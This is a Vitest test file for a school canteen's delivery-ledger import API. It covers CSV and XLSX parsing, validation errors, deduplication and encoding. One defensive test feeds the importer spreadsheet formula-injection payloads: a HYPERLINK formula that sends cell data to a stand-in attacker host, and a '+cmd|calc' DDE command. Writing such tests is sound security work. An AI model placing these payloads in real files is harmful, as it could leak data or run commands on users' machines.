import { expect, test } from 'vitest';
import writeXlsxFile from 'write-excel-file/node';
import { type Answer, type Kitchen, openKitchen } from './kitchen.ts';

const HEADING = '进货日期,品名,规格,数量,单位,生产日期,批号,保质期至,供货者,类别,收货温度,验收人';

const importing = (kitchen: Kitchen, ...lines: string[]): Promise<Answer> =>
  sending(kitchen, 'text/csv', Buffer.from(lines.join('\n')));

async function sending(kitchen: Kitchen, type: string, content: Buffer): Promise<Answer> {
  const path = '/api/v1/canteen/deliveries?campus=qingcheng&person=%E6%9D%8E%E6%A2%85';
  const response = await fetch(`${kitchen.gate.url}${path}`, {
    method: 'POST',
    headers: { 'content-type': type },
    body: new Uint8Array(content),
  });
  return JSON.parse(await response.text());
}

const RICE = '2026-11-20,大米,25kg/袋,10,袋,2026-10-01,,2027-04-01,双汇冷鲜肉,预包装食品,18.5,李梅';

test('a file of deliveries is taken, suppliers and categories by name', async () => {
  await using kitchen = await openKitchen();
  await kitchen.supplier();
  expect(await importing(kitchen, HEADING, RICE)).toEqual({
    ...{ rows: 1, imported: 1, known: 0, mistakes: [] },
  });
  const [line] = (await kitchen.get('/batches')).batches;
  expect(await kitchen.get(`/batches/${line?.id}`)).toMatchObject({
    ...{
      product: '大米',
      quantity: 10,
      unit: '袋',
      receivedDay: '2026-11-20',
      category: 'packaged',
    },
    ...{ supplier: { id: 'shuanghui' }, temperature: 18.5, expires: '2027-04-01' },
  });
});

test('imported again nothing is taken twice, though two deliveries may be alike', async () => {
  await using kitchen = await openKitchen();
  await kitchen.supplier();
  expect(await importing(kitchen, HEADING, RICE, RICE)).toMatchObject({ imported: 2, known: 0 });
  expect(await importing(kitchen, HEADING, RICE, RICE)).toMatchObject({ imported: 0, known: 2 });
  expect((await kitchen.get('/batches')).batches).toHaveLength(2);
});

test('mistakes are named by line and column, and the good lines are taken', async () => {
  await using kitchen = await openKitchen();
  await kitchen.supplier();
  const answer = await importing(
    kitchen,
    HEADING,
    '2026-11-20,面粉,,一袋,袋,,,,,,,',
    '2026-13-20,面粉,,1,袋,,,,,,热,',
    '2026-11-20,面粉,,1,袋,2026-11-01,,2026-10-01,,,,',
    '2026-11-20,面粉,,1,袋,,,,没有的人,,,',
    ',,,,,,,,,,,',
    RICE,
  );
  expect(answer).toMatchObject({ imported: 1 });
  const places = answer.mistakes.map((mistake) => {
    const { line, column, code }: { line?: number; column?: string; code?: string } = mistake;
    return `${line} ${column} ${code}`;
  });
  expect(places).toEqual([
    '2 数量 DELIVERY_CELL',
    '3 收货温度 DELIVERY_CELL',
    '3 进货日期 DELIVERY_CELL',
    '4 undefined BATCH_DATES',
    '5 undefined RECORD_UNKNOWN',
    ...['6 品名 DELIVERY_CELL', '6 数量 DELIVERY_CELL', '6 单位 DELIVERY_CELL'],
  ]);
});

test('what looks like a formula is text, and no number', async () => {
  await using kitchen = await openKitchen();
  const evil = '=HYPERLINK("http://evil.invalid"&A1)';
  const quoted = `"${evil.replaceAll('"', '""')}"`;
  const answer = await importing(
    kitchen,
    'product,quantity,unit',
    `${quoted},2,kg`,
    '+cmd|calc,=1+1,kg',
  );
  expect(answer).toMatchObject({ imported: 1, mistakes: [{ line: 3, column: 'quantity' }] });
  expect((await kitchen.get('/batches')).batches).toMatchObject([{ product: evil }]);
});

test.each([
  [['日期,品名,单位', '2026-11-20,米,kg'], 'DELIVERY_HEADING'],
  [[''], 'DELIVERY_HEADING'],
  [['品名,数量,单位', ...Array.from({ length: 5_001 }, () => '米,1,kg')], 'REQUEST_INVALID'],
])('a file that is none is refused whole', async (lines, code) => {
  await using kitchen = await openKitchen();
  expect(await importing(kitchen, ...lines)).toMatchObject({ code });
  expect((await kitchen.get('/batches')).batches).toEqual([]);
});

test('a quote that is never closed is named by its line, and nothing is taken', async () => {
  await using kitchen = await openKitchen();
  const answer = await importing(kitchen, '品名,数量,单位', '米,1,kg', '"油,1,桶');
  expect(answer).toMatchObject({ imported: 0, mistakes: [{ line: 3, code: 'DELIVERY_ROW' }] });
});

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

const workbook = (...rows: (string | number | Date | null)[][]): Promise<Buffer> =>
  writeXlsxFile(
    rows.map((row) =>
      row.map((value) => (value instanceof Date ? { value, format: 'yyyy-mm-dd' } : value)),
    ),
  ).toBuffer();

test('a workbook is taken like a CSV: dates and numbers as such, a title above the headings', async () => {
  await using kitchen = await openKitchen();
  await kitchen.supplier();
  const day = (text: string) => new Date(`${text}T00:00:00Z`);
  const file = await workbook(
    ['青城小学 进货台账', null, null],
    HEADING.split(','),
    [day('2026-11-20'), '大米', '25kg/袋', 10, '袋', day('2026-10-01'), null, day('2027-04-01')],
    [day('2026-11-20'), '面粉', '25kg/袋', '十', '袋'],
    [day('2026-11-20'), '=1+1', '散装', 2.5, 'kg', null, 20261001, null, '双汇冷鲜肉'],
  );
  const answer = await sending(kitchen, XLSX, file);
  expect(answer).toMatchObject({ rows: 3, imported: 2, known: 0 });
  expect(answer.mistakes).toMatchObject([{ line: 4, column: '数量', code: 'DELIVERY_CELL' }]);
  const { batches } = await kitchen.get('/batches');
  const all = await Promise.all(batches.map(({ id }) => kitchen.get(`/batches/${id}`)));
  expect(all).toContainEqual(
    expect.objectContaining({ product: '大米', quantity: 10, expires: '2027-04-01' }),
  );
  expect(all).toContainEqual(
    expect.objectContaining({ product: '=1+1', quantity: 2.5, lot: '20261001' }),
  );
  expect(await sending(kitchen, XLSX, file)).toMatchObject({ imported: 0, known: 2 });
});

test('the ledger that was exported can be imported elsewhere', async () => {
  await using kitchen = await openKitchen();
  await kitchen.supplier();
  await kitchen.post('/batches', { product: '大米', quantity: 10, unit: '袋', lot: 'A1' });
  const path = '/api/v1/canteen/ledgers/receiving.xlsx?campus=qingcheng';
  const response = await kitchen.gate.get(`${path}&from=2026-11-23&to=2026-11-23`);
  await using other = await openKitchen();
  const file = Buffer.from(await response.arrayBuffer());
  expect(await sending(other, XLSX, file)).toMatchObject({ imported: 1, mistakes: [] });
});

test('a CSV as spreadsheet programs in China save it is read too', async () => {
  await using kitchen = await openKitchen();
  // 品名,数量,单位 / 米,1,袋 in GB18030
  const file = Buffer.from('c6b7c3fb2ccafdc1bf2cb5a5cebb0ac3d72c312cb4fc', 'hex');
  expect(await sending(kitchen, 'text/csv', file)).toMatchObject({ imported: 1 });
  expect((await kitchen.get('/batches')).batches).toMatchObject([{ product: '米', unit: '袋' }]);
});

test.each([
  ['an old .xls', Buffer.from('d0cf11e0a1b11ae100000000', 'hex')],
  ['half a workbook', Buffer.from('504b030414000000', 'hex')],
])('%s is refused with what to do', async (_what, file) => {
  await using kitchen = await openKitchen();
  expect(await sending(kitchen, XLSX, file)).toMatchObject({
    code: 'DELIVERY_FILE',
    remedy: { zh: '请另存为带标题行的 .xlsx 或 .csv 后重新导入。' },
  });
});
